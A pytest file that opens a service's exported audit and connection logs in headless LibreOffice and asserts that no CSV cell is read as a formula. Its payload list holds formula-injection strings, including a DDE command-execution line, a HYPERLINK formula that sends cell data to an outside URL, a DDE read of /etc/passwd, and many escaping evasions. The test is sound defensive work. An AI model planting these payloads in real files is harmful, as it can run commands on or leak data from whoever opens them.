"""LibreOffice opens the CSV of a log and runs nothing of it; where it is not installed, this is left out."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from chalicelib.export import columns

SOFFICE = shutil.which("soffice")
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}
SECONDS = 120
ATTACKS = (
    "=1+1",
    '=HYPERLINK("https://example.com/?x="&A1;"click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://example.com/")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\ufeff\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1f=1+1",
    "\u2028=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "'=1+1",
    '"=1+1',
    '"",=1+1',
    '",=1+1,"',
    '"\n=1+1,"',
    '";=1+1;"',
    "a;=1+1",
    "a;=1+1;",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    'a"\r\n=1+1\r\n"',
    "{=1+1}",
    "of:=1+1",
    "msoxl:=1+1",
    "x" * columns.LONGEST_CELL + "=1+1",
    "=" * (columns.LONGEST_CELL + 1),
)


def formulas(path: Path, options: str) -> list[str]:
    """The formulas of a file once LibreOffice has opened it."""
    assert SOFFICE
    profile = path.parent / "profile"
    command = [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "fods"]
    command += [f"--infilter=CSV:{options}", "--outdir", str(path.parent / "out"), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=SECONDS)  # noqa: S603 - our own command
    opened = (path.parent / "out" / f"{path.stem}.fods").read_text()
    assert opened.count("<table:table-cell"), "it has opened the file"
    return re.findall(r'table:formula="([^"]*)"', opened)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (soffice)")
def test_no_cell_of_a_file_is_a_formula_however_it_is_split(tmp_path: Path) -> None:
    plain = tmp_path / "plain.csv"
    plain.write_text("=1+1\r\n")
    assert formulas(plain, "44,34,76,1") == ["of:=1+1"], "it runs what is not made harmless"
    for log, fields in (("audit", ("resource_target", "user_agent")), ("connection", ("workspace_name", "agent_name"))):
        path = tmp_path / f"{log}.csv"
        rows = [dict.fromkeys(fields, attack) | {"id": attack} for attack in ATTACKS]
        path.write_bytes((columns.heading(log) + "".join(columns.line(log, row) for row in rows)).encode())
        for name, separator in SEPARATORS.items():
            # 76 is UTF-8; the file is split at one character, or at any of them, as the reader's settings are.
            for options in (f"{separator},34,76,1", f"{separator}/44/59/9,34,76,1"):
                assert formulas(path, options) == [], (log, name)
